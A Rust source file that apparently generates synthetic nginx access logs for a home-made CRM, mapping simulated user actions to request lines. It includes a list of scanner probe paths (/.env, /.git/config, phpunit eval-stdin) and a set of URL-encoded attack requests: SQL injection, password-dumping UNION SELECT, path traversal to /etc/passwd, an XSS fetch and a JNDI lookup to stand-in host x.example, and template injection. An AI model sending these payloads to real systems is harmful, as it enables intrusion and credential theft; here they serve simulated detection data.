//! The home-made CRM behind nginx, in the combined format with the login in the user field.

use super::{Line, Page};
use crate::demo::act::{Deed, Scope};
use crate::demo::agents::Device;
use crate::demo::rng::Rng;

/// What scanners ask for.
pub const PROBES: [&str; 14] = [
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/admin/config.php",
    "/robots.txt",
    "/favicon.ico",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci",
    "/actuator/health",
    "/owa/auth/logon.aspx",
    "/boaform/admin/formLogin",
    "/server-status",
    "/api/v1/pods",
];

/// Bytes of one record in a CSV file.
const ROW: u64 = 174;

pub(super) fn write<F: FnMut(Line)>(page: &mut Page<'_, F>) {
    let name = page.name().map(|name| name.into_owned());
    let user = name.as_deref();
    let some = page.noise(2_400);
    let out = |page: &mut Page<'_, F>, user: Option<&str>, method: &str, target: &str, status, bytes| {
        page.combined(0, user, method, target, status, bytes);
    };
    let file = |rows: u32| u64::from(rows) * ROW + 1_000;
    match page.act.deed {
        // Before the login is done nginx knows no user; the application sets the header with the answer.
        Deed::Login => out(page, user, "POST", "/login", 302, 154),
        Deed::WrongPassword => out(page, user, "POST", "/login", 401, 1_212),
        Deed::ProviderDown => out(page, user, "POST", "/login", 401, 1_340),
        Deed::FactorDenied => out(page, user, "POST", "/login/factor", 401, 980),
        Deed::FactorRemoved => out(page, user, "DELETE", "/crm/settings/factor", 200, 60),
        Deed::Logout => out(page, user, "GET", "/logout", 302, 0),
        Deed::View(id) => {
            let target = match page.act.session % 4 {
                0 => format!("/crm/accounts/{id}"),
                1 => format!("/crm/deals/{id}"),
                _ => format!("/crm/contacts/{id}"),
            };
            // People follow links to what has gone; proxies and networks fail now and then.
            let status = match Rng::of(page.act.session, &[page.act.time as u64]).below(1_000) {
                0..6 => 404,
                6..8 => 502,
                8..9 => 499,
                _ => 200,
            };
            out(page, user, "GET", &target, status, if status == 200 { 5_200 + some } else { 520 });
        }
        Deed::List(number) => out(page, user, "GET", &format!("/crm/contacts?page={number}"), 200, 17_300 + some * 4),
        Deed::Search(found) => {
            out(page, user, "GET", &format!("/crm/search?q=%22k{some}%22"), 200, 900 + u64::from(found) * 310)
        }
        Deed::Update(id) => out(page, user, "PUT", &format!("/crm/contacts/{id}"), 200, 410),
        Deed::Create(_) => out(page, user, "POST", "/crm/contacts", 201, 395),
        Deed::Delete(id) => out(page, user, "DELETE", &format!("/crm/contacts/{id}"), 204, 0),
        Deed::BulkDelete(count) => out(page, user, "POST", "/crm/contacts/bulk-delete", 200, 60 + u64::from(count) * 7),
        Deed::BulkUpdate(count) => out(page, user, "POST", "/crm/contacts/bulk-update", 200, 60 + u64::from(count) * 7),
        Deed::Report { id, rows } => {
            out(page, user, "GET", &format!("/crm/reports/{id}"), 200, 6_000 + u64::from(rows.min(200)) * 240)
        }
        Deed::Export { id, rows } => {
            out(page, user, "GET", &format!("/crm/reports/{id}/export?format=csv"), 200, file(rows))
        }
        Deed::Read { offset, rows } => {
            out(
                page,
                user,
                "GET",
                &format!("/crm/api/contacts?offset={offset}&limit={rows}"),
                200,
                u64::from(rows) * 420,
            );
        }
        Deed::Bulk(rows) => out(page, user, "POST", "/crm/api/contacts/query", 200, file(rows)),
        Deed::Reconnoitre(id) => out(page, user, "GET", &format!("/crm/api/schema/{id}"), 200, 2_000 + some),
        Deed::Share(id, scope) => {
            let target = match scope {
                Scope::Internal => format!("/crm/contacts/{id}/share"),
                Scope::External => format!("/crm/contacts/{id}/share?external=1"),
                Scope::Public => format!("/crm/contacts/{id}/public-link"),
            };
            out(page, user, "POST", &target, 201, 120);
        }
        Deed::Assign(id) => out(page, user, "PUT", &format!("/crm/contacts/{id}/owner"), 200, 95),
        Deed::Grant { target } => out(page, user, "POST", &format!("/crm/admin/users/{target}/roles"), 200, 88),
        Deed::LoginAs { target } => out(page, user, "POST", &format!("/crm/admin/users/{target}/impersonate"), 302, 0),
        Deed::Consent(app) => out(page, user, "POST", &format!("/oauth/authorize?client_id=app-{app}"), 302, 0),
        Deed::Token => out(page, user, "POST", "/crm/settings/api-tokens", 201, 180),
        Deed::AuditOff => out(page, user, "PUT", "/crm/admin/settings/audit", 200, 44),
        Deed::Probe(number) => {
            let status = if page.act.device == Device::Program(8) { 400 } else { 404 };
            out(page, user, "GET", PROBES[number as usize % PROBES.len()], status, 153);
        }
        Deed::Inject { number, answered } => {
            let status = if !answered {
                403
            } else if number.is_multiple_of(3) {
                500
            } else {
                200
            };
            out(page, user, "GET", &injection(number), status, if answered { 900 + some } else { 153 });
        }
        Deed::Health => out(page, user, "GET", "/healthz", 200, 2),
    }
}

/// An attack on the application, as it stands in a request.
pub(super) fn injection(number: u32) -> String {
    const WAYS: [&str; 7] = [
        "/crm/search?q=%27%20OR%201%3D1%20--%20",
        "/crm/contacts?sort=name%20UNION%20SELECT%20login%2Cpassword%20FROM%20users%20LIMIT%20",
        "/crm/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd%00",
        "/crm/search?q=%3Cscript%3Efetch(%27//x.example/",
        "/crm/reports?filter=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2F",
        "/crm/export?template=%7B%7B7*7%7D%7D",
        "/crm/contacts?id=1%20AND%20SLEEP(5)%23",
    ];
    format!("{}{number}", WAYS[number as usize % WAYS.len()])
}
